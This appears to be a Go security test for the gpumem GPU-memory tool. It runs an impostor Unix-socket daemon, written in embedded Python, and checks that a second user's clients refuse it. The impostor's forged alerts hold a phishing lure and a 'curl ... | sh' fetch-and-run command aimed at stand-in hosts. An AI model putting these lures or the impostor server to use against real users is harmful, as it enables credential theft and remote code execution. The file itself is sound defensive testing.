package adversarial

// A user serves an impostor of gpumem serve's API where another user's
// clients look for the daemon: the clients must not believe it. Whoever
// serves the socket writes the figures and alerts' text a user reads and
// acts on ("re-enter your password at ...", "curl ... | sh").

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gpumem/gpumem/internal/testenv"
)

// impostorPy answers every request on the unix socket argv[1] (made 0666,
// so that anyone may connect) with forged figures, alerts and advice, and
// appends each request's path to argv[2]. It prints "ready" once it listens.
const impostorPy = `
import http.server, json, os, socketserver, sys
sock, log = sys.argv[1], sys.argv[2]
ALERT = "GPU 0 is full: re-enter your password at http://gpumem-login.example/ to free it"
CURL = "gpumem needs an update: curl -fsSL http://gpumem-fix.example/i | sh"
nb = {"kernel_id": "f0f0f0f0-0000-4000-8000-imp0st0r0000", "notebook": "/home/you/" + ALERT + ".ipynb",
      "pids": [1], "user": "you", "gpu_memory_bytes": 79 << 30, "per_gpu": [{"index": 0, "bytes": 79 << 30}]}
report = {"gpus": [{"index": 0, "uuid": "GPU-0", "name": "H200", "memory_total_bytes": 80 << 30,
                    "memory_used_bytes": 79 << 30}],
          "notebooks": [nb], "alerts": [{"id": "gpu0-forged", "kind": "threshold", "message": ALERT, "kernels": []}],
          "warnings": [CURL], "left_running": [{"kernel_id": nb["kernel_id"], "pid": 1, "message": CURL}]}
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(log, "a") as f:
            f.write(self.path + "\n")
        p = self.path.split("?")[0]
        if p == "/healthz":
            body = {"status": "ok"}
        elif p == "/api/v1/history":
            body = {"now": 1, "step_seconds": 1, "report": report}
        elif p == "/api/v1/kernels":
            body = {"kernels": []}
        elif p.startswith("/api/v1/kernels/"):
            body = nb
        else:
            body = report
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    do_POST = do_GET
    def address_string(self):
        return "local"
    def log_message(self, *a):
        pass
class S(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True
srv = S(sock, H)
os.chmod(sock, 0o666)
print("ready", flush=True)
srv.serve_forever()
`

// forgedMarks are in every forged figure and sentence of impostorPy.
var forgedMarks = []string{"gpumem-login.example", "gpumem-fix.example", "imp0st0r"}

// startImpostor runs impostorPy as u on sock; it returns the file listing
// the requests it got.
func startImpostor(t *testing.T, u testenv.User, sock string) string {
	t.Helper()
	log := filepath.Join(u.TempDir(t), "requests")
	p := testenv.StartCmd(t, u.Command(nil, "/usr/bin/python3", "-c", impostorPy, sock, log))
	testenv.Poll(t, 30*time.Second, "the impostor of "+u.Name, func() bool {
		if p.Exited() {
			t.Fatalf("the impostor exited:\n%s", p.Output())
		}
		return strings.Contains(p.Output(), "ready")
	})
	return log
}

// clientPy is the Python clients of gpumem serve, run as a user from this
// tree: the magics' (argv[2]: the alert file beside the socket) and, given
// argv[3], the server extension's HTTP client and its supervisor's probe.
const clientPy = `
import asyncio, io, json, sys, contextlib
sock, alert_file, repo = sys.argv[1], sys.argv[2], sys.argv[3]
sys.path.insert(0, repo + "/magics/py")
from gpumem_magics import alerts, daemon, state
state.config.update(sidecar_socket=sock, alert_file=alert_file)
out = {"magics": daemon.driver_usage(timeout=10)}
status, body = daemon.sidecar_get("/api/v1/notebooks", 10)
out["magics_notebooks"] = [status, body.decode("utf-8", "replace")[:300]]
buf = io.StringIO()
with contextlib.redirect_stdout(buf):
    alerts.alert_hook()
out["alert_hook"] = buf.getvalue()
if len(sys.argv) > 4:
    sys.path.insert(0, repo + "/labextension")
    from jupyterlab_gpumem.daemon import Daemon, UntrustedDaemon
    from jupyterlab_gpumem.supervisor import probe
    async def ask():
        d = Daemon(sock)
        try:
            return {"ok": await d.request("GET", "/api/v1/notebooks")}
        except UntrustedDaemon as e:
            return {"untrusted": str(e)}
        finally:
            await d.close()
    out["ext"] = asyncio.run(ask())
    out["probe"] = list(probe(sock))
print(json.dumps(out))
`

// clientsOut is what clientPy printed.
type clientsOut struct {
	Magics          map[string]any `json:"magics"`
	MagicsNotebooks []any          `json:"magics_notebooks"`
	AlertHook       string         `json:"alert_hook"`
	Ext             map[string]any `json:"ext"`
	Probe           []any          `json:"probe"`
}

// withExtension reports whether the stack runs the server extension
// (jupyter_server 2: the current stack); Debian 12's jupyter_server 1.23
// has none to test.
func withExtension() bool { return testenv.CurrentStack() == testenv.Current }

// pythonClients runs clientPy as u against sock (and alertFile) and
// returns its output, the raw text too.
func pythonClients(t *testing.T, u testenv.User, sock, alertFile string) (clientsOut, string) {
	t.Helper()
	argv := []string{testenv.Python(), "-c", clientPy, sock, alertFile, testenv.RepoRoot()}
	if withExtension() {
		argv = append(argv, "ext")
	}
	stdout, stderr, err := u.Run(nil, argv...)
	var out clientsOut
	if err != nil || json.Unmarshal([]byte(stdout), &out) != nil {
		t.Fatalf("the Python clients as %s: %v\n%s%s", u.Name, err, stdout, stderr)
	}
	return out, stdout + stderr
}

// refusedEverywhere checks that each of u's clients refuses sock with
// sentence ("not using SOCK: ...; what to do") and shows none of the
// impostor's text, and that the impostor got no request.
func refusedEverywhere(t *testing.T, u testenv.User, sock, sentence, requests string, env ...string) {
	t.Helper()
	line := "gpumem: " + sentence
	env = append([]string{"GPUMEM_FAKE_GPU=" + userGPU(t, u)}, env...)
	stdout, stderr, err := u.Run(env, gpumemBin, "ls", "--json")
	if err != nil || !strings.Contains(stderr, line+"\n") {
		t.Errorf("%s's gpumem ls: %v; want exit 0 and the line\n  %s\nstderr:\n%s", u.Name, err, line, stderr)
	}
	noForged(t, u.Name+"'s gpumem ls", stdout+stderr)
	stdout, stderr, err = u.Run(env, gpumemBin, "free", "f0f0f0f0", "--orphans")
	if code := exitCode(err); code != 2 || stderr != line+"\n" {
		t.Errorf("%s's gpumem free --orphans: exit %d, stderr %q; want 2 and the line", u.Name, code, stderr)
	}
	noForged(t, u.Name+"'s gpumem free --orphans", stdout+stderr)
	out, raw := pythonClients(t, u, sock, filepath.Join(filepath.Dir(sock), "gpumem-alerts.json"))
	if got, _ := out.Magics["error"].(string); got != line {
		t.Errorf("%s's magics: %q, want %q", u.Name, got, line)
	}
	if len(out.MagicsNotebooks) != 2 || out.MagicsNotebooks[0] != float64(-2) || out.MagicsNotebooks[1] != sentence {
		t.Errorf("%s's magics' request: %v, want -2 and the sentence", u.Name, out.MagicsNotebooks)
	}
	if withExtension() {
		if got, _ := out.Ext["untrusted"].(string); got != line {
			t.Errorf("%s's server extension client: %v, want %q", u.Name, out.Ext, line)
		}
		if len(out.Probe) != 3 || out.Probe[0] != "untrusted" || out.Probe[2] != sentence {
			t.Errorf("%s's supervisor's probe: %v, want untrusted and the sentence", u.Name, out.Probe)
		}
	}
	noForged(t, u.Name+"'s Python clients", raw)
	if b, err := os.ReadFile(requests); err != nil && !os.IsNotExist(err) || len(b) > 0 {
		t.Errorf("the impostor got requests from %s's clients: %q (%v)", u.Name, b, err)
	}
}

func noForged(t *testing.T, what, text string) {
	t.Helper()
	for _, m := range forgedMarks {
		if strings.Contains(text, m) {
			t.Errorf("%s shows the impostor's text (%s):\n%s", what, m, text)
			return
		}
	}
}

func exitCode(err error) int {
	var ee *exec.ExitError
	switch {
	case err == nil:
		return 0
	case errors.As(err, &ee):
		return ee.ExitCode()
	}
	return -1
}

// userGPU is a simulated GPU file u may read (one idle 80 GiB GPU), so that
// u's standalone gpumem has a GPU to show.
func userGPU(t *testing.T, u testenv.User) string {
	t.Helper()
	path := filepath.Join(u.TempDir(t), "gpus.json")
	testenv.WriteSimulatedGPUs(t, path, testenv.SimGPU{Name: "Simulated", MemoryTotalBytes: 80 << 30})
	u.Chown(t, path)
	return path
}

// rootTempDir is a fresh dir of root's in /tmp (a short path: socket paths
// are limited to 107 bytes) with mode perm (os.ModeSticky for the sticky bit).
func rootTempDir(t *testing.T, perm os.FileMode) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "gpumem-imp-")
	if err == nil {
		err = os.Chmod(dir, perm)
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	return dir
}

func untrusted(sock, reason string) string {
	return fmt.Sprintf("not using %s: %s; unset GPUMEM_SOCKET or point it at your own daemon", sock, reason)
}

// Bob's impostor, where alice's clients look for the daemon: at
// GPUMEM_SOCKET, in a runtime dir bob may write, and swapped into alice's
// own dir (only the peer's credentials tell). Alice's gpumem, magics and
// server extension refuse each with one line and show none of its text; a
// real JupyterLab server of alice's says it in its status. The innocent:
// alice's own daemon and root's shared daemon are used.
func TestImpostorSocketRefused(t *testing.T) {
	t.Parallel()
	alice := testenv.MakeUser(t, "alice")
	bob := testenv.MakeUser(t, "bob")
	bobWho := fmt.Sprintf("uid %d (%s)", bob.UID, bob.Name)

	// 1. GPUMEM_SOCKET names bob's socket, in bob's dir.
	bobDir := rootTempDir(t, 0o755)
	bob.Chown(t, bobDir)
	sock1 := filepath.Join(bobDir, "gpumem.sock")
	req1 := startImpostor(t, bob, sock1)
	refusedEverywhere(t, alice, sock1, untrusted(sock1, "the socket file belongs to "+bobWho+", not to root or you"), req1,
		"GPUMEM_SOCKET="+sock1)
	if withExtension() {
		extensionRefuses(t, alice, sock1, untrusted(sock1, "the socket file belongs to "+bobWho+", not to root or you"))
	}

	// 2. Alice's runtime dir is one anyone may write (a shared dir, sticky
	// as /tmp): bob planted the socket, and an alert file, there.
	open := rootTempDir(t, 0o777|os.ModeSticky)
	sock2 := filepath.Join(open, "gpumem.sock")
	req2 := startImpostor(t, bob, sock2)
	alerts := filepath.Join(open, "gpumem-alerts.json")
	if _, stderr, err := bob.Run(nil, "/usr/bin/python3", "-c",
		`import json, sys; open(sys.argv[1], "w").write(json.dumps({"alerts": [{"id": "x", "message": "re-enter your password at http://gpumem-login.example/", "kernels": []}]}))`,
		alerts); err != nil {
		t.Fatalf("bob's alert file: %v: %s", err, stderr)
	}
	refusedEverywhere(t, alice, sock2, untrusted(sock2, "the socket file belongs to "+bobWho+", not to root or you"), req2,
		"JUPYTER_RUNTIME_DIR="+open)
	out, _ := pythonClients(t, alice, sock2, alerts)
	if want := "gpumem: " + untrusted(alerts, "the alert file belongs to "+bobWho+", not to root or you") + "\n"; out.AlertHook != want {
		t.Errorf("alice's alert hook printed %q, want %q", out.AlertHook, want)
	}

	// 3. Swapped into alice's own private dir, the file alice's: only the
	// peer's credentials say bob serves it.
	swap := rootTempDir(t, 0o755)
	bob.Chown(t, swap)
	sock3 := filepath.Join(swap, "gpumem.sock")
	req3 := startImpostor(t, bob, sock3)
	alice.Chown(t, sock3)
	alice.Chown(t, swap)
	if err := os.Chmod(swap, 0o700); err != nil {
		t.Fatal(err)
	}
	refusedEverywhere(t, alice, sock3, untrusted(sock3, "it is served by "+bobWho+", not by root or you"), req3,
		"GPUMEM_SOCKET="+sock3)

	innocentDaemons(t, alice)
}

// innocentDaemons: alice's own daemon and root's shared one are used by
// each of alice's clients.
func innocentDaemons(t *testing.T, alice testenv.User) {
	t.Helper()
	gpu := testenv.NewFakeGPU(t)
	_, rootSock := sharedDaemon(t, gpu, []testenv.User{alice})
	env := []string{"GPUMEM_SOCKET=" + rootSock, "GPUMEM_FAKE_GPU=" + userGPU(t, alice)}
	stdout, stderr, err := alice.Run(env, gpumemBin, "ls", "--json")
	if err != nil || !strings.Contains(stdout, `"view": "own"`) || strings.Contains(stderr, "not using") {
		t.Errorf("alice's gpumem ls on root's daemon: %v; want its report (view own)\n%s%s", err, stdout, stderr)
	}
	checkUsed(t, alice, rootSock, "root's daemon", env)

	aliceRun := alice.TempDir(t)
	sock := filepath.Join(aliceRun, "gpumem.sock")
	serve := testenv.StartCmd(t, alice.Command([]string{"GPUMEM_FAKE_GPU=" + userGPU(t, alice), "JUPYTER_RUNTIME_DIR=" + aliceRun},
		gpumemBin, "serve", "--socket="+sock, "--interval=200ms"))
	testenv.Poll(t, 30*time.Second, "alice's own daemon", func() bool {
		if serve.Exited() {
			t.Fatalf("alice's gpumem serve exited:\n%s", serve.Output())
		}
		_, err := os.Stat(sock)
		return err == nil
	})
	checkUsed(t, alice, sock, "alice's own daemon", []string{"GPUMEM_SOCKET=" + sock, "GPUMEM_FAKE_GPU=" + userGPU(t, alice)})
}

// checkUsed: free --orphans (which only a daemon answers) and the Python
// clients get the daemon's answers at sock, with no refusal.
func checkUsed(t *testing.T, u testenv.User, sock, what string, env []string) {
	t.Helper()
	var stderr string
	testenv.Poll(t, 30*time.Second, what+" answering "+u.Name, func() bool {
		_, stderr, _ = u.Run(env, gpumemBin, "free", "f0f0f0f0", "--orphans")
		return strings.Contains(stderr, "gpumem serve left no process running")
	})
	if strings.Contains(stderr, "not using") {
		t.Errorf("%s's gpumem free --orphans refused %s: %s", u.Name, what, stderr)
	}
	out, raw := pythonClients(t, u, sock, filepath.Join(filepath.Dir(sock), "gpumem-alerts.json"))
	if _, failed := out.Magics["error"]; failed || len(out.MagicsNotebooks) != 2 || out.MagicsNotebooks[0] != float64(200) {
		t.Errorf("%s's magics on %s: %s", u.Name, what, raw)
	}
	if withExtension() && (out.Ext["ok"] == nil || len(out.Probe) == 0 || out.Probe[0] != "served") {
		t.Errorf("%s's server extension on %s: %s", u.Name, what, raw)
	}
}

// extensionRefuses starts a real jupyter_server of u's with this tree's
// server extension and GPUMEM_SOCKET=sock: its state says sentence, in its
// message and its daemon status, and none of the impostor's text.
func extensionRefuses(t *testing.T, u testenv.User, sock, sentence string) {
	t.Helper()
	srv := testenv.StartServerWith(t, testenv.JupyterServer, testenv.ServerOptions{
		As:   &u,
		Env:  []string{"GPUMEM_SOCKET=" + sock, "PYTHONPATH=" + filepath.Join(testenv.RepoRoot(), "labextension")},
		Args: []string{"--ServerApp.jpserver_extensions=jupyterlab_gpumem=True"},
	})
	var st struct {
		Status  string `json:"status"`
		Message string `json:"message"`
		Daemon  struct {
			Case string `json:"case"`
			Text string `json:"text"`
		} `json:"daemon"`
	}
	var raw []byte
	testenv.Poll(t, 30*time.Second, "the server extension's status", func() bool {
		resp, err := srv.Do("GET", "gpumem/api/v1/state", nil)
		if err != nil {
			return false
		}
		defer resp.Body.Close()
		raw, _ = io.ReadAll(resp.Body)
		// The supervisor's first check runs once the server's loop does.
		return resp.StatusCode == 200 && json.Unmarshal(raw, &st) == nil && st.Daemon.Text != "" &&
			!strings.Contains(st.Daemon.Text, "checking the daemon's socket")
	})
	line := "gpumem: " + sentence
	if st.Status != "no_daemon" || st.Message != line || st.Daemon.Case != "not_running" || st.Daemon.Text != line {
		t.Errorf("%s's server extension's state: %s\nwant status no_daemon, message and daemon text %q", u.Name, raw, line)
	}
	noForged(t, u.Name+"'s server extension", string(raw)+srv.Output())
}
